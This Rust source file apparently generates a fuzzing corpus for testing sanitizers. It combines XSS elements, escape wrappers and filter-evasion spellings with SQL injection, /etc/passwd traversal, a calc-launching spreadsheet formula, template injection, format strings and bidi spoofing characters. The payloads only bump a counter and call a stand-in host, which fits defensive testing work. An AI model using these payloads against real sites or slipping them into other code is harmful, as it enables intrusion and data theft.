//! Text that wants to be more than text: made from parts, the same list every time.
//!
//! Whatever runs says so by setting `ran` on the window; what is only shown does nothing.

/// What a payload does where it is run.
const DEED: &str = "window.ran=(window.ran||0)+1";

/// Elements that run, fetch or frame something; `@` is the deed, `#` an address.
const ELEMENTS: &[&str] = &[
    "<script>@</script>",
    "<script src=#></script>",
    "<script type=module>@</script>",
    "<img src=x onerror=@>",
    "<img src=#>",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<math><mtext><script>@</script></mtext></math>",
    "<iframe srcdoc='<script>parent.@</script>'>",
    "<iframe src=#></iframe>",
    "<iframe src=javascript:@>",
    "<object data=#>",
    "<embed src=#>",
    "<link rel=stylesheet href=#>",
    "<link rel=preload as=image href=#>",
    "<style>@import '#';</style>",
    "<style>*{background:url(#)}</style>",
    "<meta http-equiv=refresh content='0;url=#'>",
    "<base href=#>",
    "<form action=#><input autofocus onfocus=@></form>",
    "<input autofocus onfocus=@>",
    "<select autofocus onfocus=@>",
    "<textarea autofocus onfocus=@>",
    "<details open ontoggle=@>",
    "<video src=# onerror=@>",
    "<video><source onerror=@></video>",
    "<audio src=x onerror=@>",
    "<body onload=@>",
    "<body onpageshow=@>",
    "<marquee onstart=@>",
    "<div style=animation-name:x onanimationstart=@>",
    "<a href=javascript:@ autofocus onfocus=@>here</a>",
    "<template shadowrootmode=open><script>@</script></template>",
    "<dialog open oncancel=@><button popovertarget=p>x</button></dialog>",
    "<button popovertarget=p onclick=@>x</button><p popover id=p onbeforetoggle=@>",
];

/// Ways out of where a text might wrongly be put; `*` is an element.
const WRAPPERS: &[&str] = &[
    "*",
    "\"*",
    "'>*",
    "\">*",
    "-->*<!--",
    "]]>*",
    "</title>*",
    "</textarea>*",
    "</script>*",
    "</style>*",
    "</noscript>*",
    "&lt;b&gt;*",
    "{{*}}",
    "${*}",
    "{@html '*'}",
    "`*`",
    "\\\"*\\\"",
    "<!--*",
    "<![CDATA[*]]>",
    "<xmp>*</xmp>",
];

/// Spellings that a sloppy filter lets through.
const SPELLINGS: &[fn(&str) -> String] = &[
    str::to_owned,
    |text| text.replace("script", "ScRiPt").replace("svg", "SVG"),
    |text| text.replace(' ', "/"),
    |text| text.replace('<', "\u{ff1c}").replace('>', "\u{ff1e}"),
];

/// What is no markup and still not only text.
const OTHERS: &[&str] = &[
    "javascript:@",
    "JaVaScRiPt&colon;@",
    "data:text/html,<script>@</script>",
    "vbscript:@",
    "{{constructor.constructor('@')()}}",
    "${@}",
    "<%= @ %>",
    "#{@}",
    "[[@]]",
    "';@;//",
    "\");@;//",
    "`-@-`",
    "\\u003cscript\\u003e@",
    "%3Cscript%3E@%3C/script%3E",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "' OR 1=1 --",
    "'; DROP TABLE message; --",
    "../../../../etc/passwd",
    "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7}",
    "%s%s%n%x",
    "__proto__",
    "constructor",
    "undefined",
    "null",
    "NaN",
    "true",
    "[object Object]",
];

/// Characters that move, hide or reorder what is around them.
const MOVERS: &[(char, char)] = &[
    ('\u{1}', '\u{8}'),
    ('\u{b}', '\u{1f}'),
    ('\u{7f}', '\u{9f}'),
    ('\u{ad}', '\u{ad}'),
    ('\u{61c}', '\u{61c}'),
    ('\u{180e}', '\u{180e}'),
    ('\u{200b}', '\u{200f}'),
    ('\u{2028}', '\u{202e}'),
    ('\u{2060}', '\u{206f}'),
    ('\u{feff}', '\u{feff}'),
    ('\u{fff9}', '\u{fffb}'),
    ('\u{e0001}', '\u{e0001}'),
    ('\u{e0061}', '\u{e007a}'),
];

/// Every payload, each once.
pub fn payloads() -> Vec<String> {
    let filled = |text: &str| text.replace('@', DEED).replace('#', "https://example.org/stolen");
    let mut all = Vec::new();
    for spelling in SPELLINGS {
        for wrapper in WRAPPERS {
            for element in ELEMENTS {
                all.push(spelling(&wrapper.replace('*', &filled(element))));
            }
        }
    }
    all.extend(OTHERS.iter().map(|other| filled(other)));
    for (first, last) in MOVERS {
        all.extend((*first..=*last).map(|mover| format!("gnp{mover}.zip{mover}evil")));
    }
    all.push("e".to_owned() + &"\u{301}".repeat(300));
    all.push("W".repeat(4_000));
    all.push("عربي 👨‍👩‍👧‍👦 한국어 עברית ".repeat(20).trim_end().to_owned());
    let mut seen = std::collections::BTreeSet::new();
    all.retain(|payload| seen.insert(payload.clone()));
    all
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_more_than_two_thousand() {
        assert!(payloads().len() > 2_000, "{}", payloads().len());
    }
}
